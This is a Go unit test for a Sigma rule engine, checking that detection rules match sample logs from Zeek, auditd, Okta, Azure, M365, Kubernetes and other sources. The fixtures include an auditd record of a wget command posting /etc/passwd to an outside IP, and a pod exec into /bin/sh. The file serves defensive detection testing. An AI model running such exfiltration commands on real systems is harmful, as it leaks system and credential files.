package app

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestSigmaFields: rules find what packs keep under other names than the source's, line by line. A key that
// a pack reads is not kept under its own name, so a rule that the mapping forgets would never fire.
func TestSigmaFields(t *testing.T) {
	var rules, lines []string
	f := func(source, selection, line string) {
		rules = append(rules, fmt.Sprintf("title: T%d\nid: r%d\nlogsource: {%s}\ndetection:\n  s: {%s}\n  condition: s\n", len(rules), len(rules), source, selection))
		lines = append(lines, line)
	}
	zeek := `"ts":1772438400.1,"uid":"C1","id.orig_h":"192.0.2.7","id.orig_p":50000,"id.resp_h":"203.0.113.8","id.resp_p":80,`
	f(`product: zeek, service: http`, `method: PUT, host|endswith: .tk, uri|endswith: .exe, user_agent|contains: WebDAV, resp_mime_types: application/x-dosexec, id.resp_h|cidr: 203.0.113.0/24, status_code: 200`,
		`{"_path":"http",`+zeek+`"trans_depth":1,"method":"PUT","host":"www.example.tk","uri":"/x.exe","version":"1.1","user_agent":"Microsoft-WebDAV-MiniRedir/10.0","status_code":200,"resp_mime_types":["application/x-dosexec"]}`)
	f(`product: zeek, service: dns`, `query|endswith: .onion.to, qtype_name: A, id.resp_p: 80, answers: 127.0.0.1`,
		`{"_path":"dns",`+zeek+`"proto":"udp","query":"abc.onion.to","qtype":1,"qtype_name":"A","answers":["127.0.0.1"],"rejected":false}`)
	f(`product: zeek, service: kerberos`, `request_type: TGS, cipher: rc4-hmac, service|startswith: HTTP`,
		`{"_path":"kerberos",`+zeek+`"request_type":"TGS","client":"ann/EX","service":"HTTP/web1","success":true,"cipher":"rc4-hmac"}`)
	audit := ` msg=audit(1772438400.123:456): `
	f(`product: linux, service: auditd`, `type: EXECVE, a0: wget, a1|startswith: '--post-file='`, `type=EXECVE`+audit+`argc=3 a0="wget" a1="--post-file=/etc/passwd" a2="http://203.0.113.8/"`)
	f(`product: linux, service: auditd`, `type: PATH, name: /etc/ld.so.preload`, `type=PATH`+audit+`item=0 name="/etc/ld.so.preload" inode=5 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL`)
	f(`product: linux, service: auditd`, `type: SERVICE_STOP, unit: firewalld`, `type=SERVICE_STOP`+audit+`pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`)
	f(`product: okta, service: okta`, `displayMessage: Denied, securityContext.isProxy: 'true', outcome.reason: Risky, target.displayName: Admin Console, debugContext.debugData.behaviors|contains: POSITIVE, debugContext.debugData.requestUri|contains: admin, actor.alternateId: ann@example.com`,
		`{"actor":{"id":"00u1","type":"User","alternateId":"ann@example.com","displayName":"Ann"},"client":{"ipAddress":"198.51.100.7"},"displayMessage":"Denied","eventType":"policy.evaluate_sign_on","outcome":{"result":"DENY","reason":"Risky"},"securityContext":{"isProxy":true},"debugContext":{"debugData":{"behaviors":"{New Device=POSITIVE}","requestUri":"/admin/sso"}},"target":[{"id":"0oa","type":"AppInstance","alternateId":"x","displayName":"Admin Console"}],"published":"2026-03-02T08:00:00.000Z","severity":"INFO","uuid":"u-1","version":"0"}`)
	entra := `{"time":"2026-03-02T08:00:00Z","resourceId":"/tenants/t/providers/Microsoft.aadiam","tenantId":"t","callerIpAddress":"198.51.100.7",`
	f(`product: azure, service: signinlogs`, `Status: Success, resultType: 0, AuthenticationRequirement: singleFactorAuthentication, callerIpAddress: 198.51.100.7, ResourceDisplayName: Graph, conditionalAccessStatus: notApplied`,
		entra+`"operationName":"Sign-in activity","category":"SignInLogs","resultType":"0","properties":{"id":"i","createdDateTime":"2026-03-02T08:00:00Z","userPrincipalName":"ann@example.com","ipAddress":"198.51.100.7","status":{"errorCode":0},"authenticationRequirement":"singleFactorAuthentication","resourceDisplayName":"Graph","conditionalAccessStatus":"notApplied"}}`)
	f(`product: azure, service: signinlogs`, `Status: Failure, ResultDescription|contains: strong authentication`,
		entra+`"operationName":"Sign-in activity","category":"SignInLogs","resultType":"500121","resultDescription":"Authentication failed during strong authentication request.","properties":{"id":"i","createdDateTime":"2026-03-02T08:00:00Z","userPrincipalName":"ann@example.com","ipAddress":"198.51.100.7","status":{"errorCode":500121,"failureReason":"Authentication failed during strong authentication request."}}}`)
	f(`product: azure, service: auditlogs`, `Category: UserManagement, Status: failure, LoggedByService: Invited Users, ActivityDisplayName: Invite external user`,
		entra+`"operationName":"Invite external user","category":"AuditLogs","properties":{"id":"i","category":"UserManagement","result":"failure","activityDisplayName":"Invite external user","activityDateTime":"2026-03-02T08:00:00Z","loggedByService":"Invited Users","operationType":"Add","initiatedBy":{"user":{"userPrincipalName":"ann@example.com"}},"targetResources":[]}}`)
	m365 := `{"CreationTime":"2026-03-02T08:00:00","Id":"i","OrganizationId":"o","UserKey":"k","Version":1,`
	f(`product: m365, service: audit`, `Operation|contains: Disable Strong Authentication, Workload: AzureActiveDirectory, ResultStatus: Success`,
		m365+`"Operation":"Disable Strong Authentication.","RecordType":8,"ResultStatus":"Success","UserType":0,"Workload":"AzureActiveDirectory","ObjectId":"x","UserId":"ann@example.com"}`)
	f(`product: m365, service: threat_management`, `eventSource: SecurityComplianceCenter, eventName: Suspicious inbox forwarding, status: success`,
		m365+`"Operation":"AlertTriggered","RecordType":40,"ResultStatus":"Succeeded","UserType":4,"Workload":"SecurityComplianceCenter","UserId":"SecurityComplianceAlerts","Name":"Suspicious inbox forwarding","Severity":"Low","Status":"Active","Source":"Cloud App Security"}`)

	f(`product: cisco, service: duo`, `event_type: authentication, reason: bypass_user`,
		`{"access_device":{"ip":"198.51.100.7"},"application":{"key":"k","name":"VPN"},"event_type":"authentication","factor":"not_available","isotimestamp":"2026-03-02T08:00:00.000000+00:00","reason":"bypass_user","result":"success","timestamp":1772438400,"txid":"t","user":{"key":"u","name":"ann"}}`)
	f(`product: azure, service: activitylogs`, `CategoryValue: Administrative, OperationNameValue: MICROSOFT.NETWORK/FIREWALLPOLICIES/DELETE, ResourceId|contains: firewallpolicies, ResourceProviderValue: Microsoft.Network`,
		`{"time":"2026-03-02T08:00:00.0Z","resourceId":"/SUBSCRIPTIONS/S/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.NETWORK/FIREWALLPOLICIES/F","operationName":"MICROSOFT.NETWORK/FIREWALLPOLICIES/DELETE","category":"Administrative","resultType":"Success","resultSignature":"Succeeded.","callerIpAddress":"198.51.100.7","correlationId":"c","identity":{"claims":{"name":"ann"}},"level":"Information"}`)
	f(`product: kubernetes, service: audit`, `verb: get, requestURI|contains: '%2fbin%2fsh'`,
		`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a-1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods/x/exec?command=%2Fbin%2Fsh","verb":"get","user":{"username":"ann","groups":["system:authenticated"]},"sourceIPs":["198.51.100.7"],"userAgent":"kubectl","objectRef":{"resource":"pods","namespace":"default","name":"x","apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-03-02T08:00:00.000000Z","stageTimestamp":"2026-03-02T08:00:00.100000Z"}`)
	f(`product: fortigate, service: event`, `action: Add, cfgpath: firewall.policy`,
		`<189>date=2026-03-02 time=08:00:00 devname="fg1" devid="FG100" eventtime=1772438400000000000 tz="+0000" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(198.51.100.7)" action="Add" cfgtid=1 cfgpath="firewall.policy" cfgobj="5" cfgattr="name[x]" msg="Add firewall.policy 5"`)
	f(`product: bitbucket, service: audit`, `auditType.category: Permissions, auditType.action: Global permission granted`,
		`{"affectedObjects":[],"auditType":{"action":"Global permission granted","actionI18nKey":"bitbucket.service.audit.action.global.permission.granted","category":"Permissions","categoryI18nKey":"y","area":"PERMISSIONS","level":"BASE"},"author":{"id":"1","name":"ann","type":"NORMAL"},"changedValues":[],"source":"198.51.100.7","system":"http://b","timestamp":{"epochSecond":1772438400,"nano":0},"version":"1.0"}`)
	f(`category: antivirus`, `Signature|startswith: HackTool, Filename|endswith: '\x.exe'`,
		`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Windows Defender"}},"EventID":1116,"Version":0,"Level":3,"TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T08:00:00.000000Z"}},"EventRecordID":5,"Channel":"Microsoft-Windows-Windows Defender/Operational","Computer":"pc1.example.com"},"EventData":{"Product Name":"Microsoft Defender Antivirus","Threat Name":"HackTool:Win32/X","Severity Name":"High","Path":"file:_C:\\Temp\\x.exe","Detection User":"EX\\ann"}}}`)

	path := filepath.Join(t.TempDir(), "r.yml")
	if err := os.WriteFile(path, []byte(strings.Join(rules, "---\n")), 0o600); err != nil {
		t.Fatal(err)
	}
	set, err := LoadSet("", path)
	if err != nil {
		t.Fatal(err)
	}
	opt := Reading{Now: time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)}
	d, found, number := NewDetection(set, opt), map[string]bool{}, 0
	hit := func(h Hit) error { found[fmt.Sprintf("%s of line %d", h.Rule, h.Record)] = true; return nil }
	if err := opt.Records(strings.NewReader(strings.Join(lines, "\n")), &number, func(r Record) error { return d.Process(r, hit) }); err != nil {
		t.Fatal(err)
	}
	for i := range rules {
		if !found[fmt.Sprintf("r%d of line %d", i, i)] {
			t.Errorf("no match:\n%s\n%s", rules[i], lines[i])
		}
	}
}
